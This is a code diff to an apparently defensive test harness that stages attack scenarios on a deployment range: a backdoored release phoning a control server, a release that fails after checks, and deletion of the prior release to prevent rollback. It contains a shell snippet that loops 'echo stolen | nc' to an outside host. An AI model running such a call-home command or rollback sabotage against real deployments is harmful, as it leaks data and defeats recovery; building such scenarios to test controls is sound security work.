@@ -8,19 +8,24 @@ from __future__ import annotations
 
 import threading
 import time
-from collections.abc import Mapping
+from collections.abc import Callable, Mapping
 from types import TracebackType
 from typing import Any, Self
 
 from tenuto.errors import Busy
 from tenuto.events import AlertRaised, DeploymentQuarantined, DeploymentRolledBack, DeploymentUnhealthy, Event
+from tenuto.verification import Verified
 
+from ..containers.engine import EngineFailed
+from ..containers.instance import Instance
+from ..containers.network import NetworkFailed
 from ..containers.rollout import NoWayBack
 from ..containers.watch import ContainerWatch, EventsOf
+from ..service_process import Unhealthy
 from .container_range import ALLOWED, ALLOWED_PORT, CONTROL_PORT, ELSEWHERE, SERVICE, ContainerRange
 from .ground import RANGE_AGENT, Ground
 from .images import on_range
-from .scenario import Scenario, Seen, Stop
+from .scenario import Lacking, Scenario, Seen, Stop
 from .shop import NAME, ShopOnRange
 
 _CALLS = "call() {{ while true; do echo stolen | nc -w 1 {0} {1}; sleep 0.2; done; }}\ncall & exec httpd -f -p $PORT -h /release/www\n"
@@ -67,7 +72,7 @@ class Listener:
 def calls_home(ground: Ground) -> Seen:
     """Let a release in production send something to a control server."""
     with on_range(ground) as service, Listener(service.range, ELSEWHERE, CONTROL_PORT) as control:
-        service.put_in_force("1")
+        _begin(service)
         service.put_in_force("2", program=BACKDOOR)
         watch = service.watch(ground.recorder(RANGE_AGENT), _events_of(ground), ground.clock)
         said = _look_until_done(watch)
@@ -83,7 +88,7 @@ def calls_home(ground: Ground) -> Seen:
 def sickens(ground: Ground) -> Seen:
     """Bring a flagged change into production that is well when it is looked at, and stops answering afterwards."""
     with on_range(ground) as service:
-        before = service.put_in_force("1", run=f"range-{ground.new_id()}")
+        before = _begin(service, run=f"range-{ground.new_id()}")
         service.put_in_force("2")
         ground.recorder(RANGE_AGENT).record(AlertRaised, run=service.run, refs=("T1", "M18"), **_flag(service))
         service.stop_answering()
@@ -100,7 +105,7 @@ def sickens(ground: Ground) -> Seen:
 def burnt_bridge(ground: Ground) -> Seen:
     """Take the release before away, so that nobody can go back from the next one."""
     with on_range(ground) as service:
-        before = service.put_in_force("1")
+        before = _begin(service)
         service.range.signature(NAME, before.digest).unlink()
         try:
             service.release("2")
@@ -108,6 +113,14 @@ def burnt_bridge(ground: Ground) -> Seen:
             stops = _stops(ground, {"R4": (DeploymentUnhealthy, "The way back was tried before the promotion, and is not there.")})
             return Seen(reached=False, sentence=str(none), stops=stops)
         return Seen(reached=True, sentence=f"{SERVICE} was promoted, and there is no way back.")
+
+
+def _begin(service: ShopOnRange, run: str | None = None) -> Instance:
+    """Have an honest release in force; raises Lacking where this machine runs none."""
+    try:
+        return service.put_in_force("1", run=run)
+    except (EngineFailed, NetworkFailed, Unhealthy) as error:
+        raise Lacking(f"An honest release does not run on this machine: {error}") from error
 
 
 def _flag(service: ShopOnRange) -> dict[str, Any]:
@@ -141,11 +154,15 @@ def _stops(ground: Ground, controls: Mapping[str, tuple[type[Event], str]]) -> t
     """The controls whose events came; each rests on all events of its kind since the attack began."""
     stops = []
     for control, (kind, sentence) in controls.items():
-        ground.wait_for(lambda one, kind=kind: isinstance(one.event, kind), EVIDENCE_SECONDS_MAX)  # type: ignore[misc]
-        found = tuple(one.event.id for one in ground.since() if isinstance(one.event, kind))
+        ground.wait_for(_by_us(kind), EVIDENCE_SECONDS_MAX)
+        found = tuple(one.event.id for one in filter(_by_us(kind), ground.since()))
         if found:
             stops.append(Stop(control, sentence, found))
     return tuple(stops)
+
+
+def _by_us(kind: type[Event]) -> Callable[[Verified], bool]:
+    return lambda one: isinstance(one.event, kind) and one.event.author == RANGE_AGENT
 
 
 SCENARIOS = (
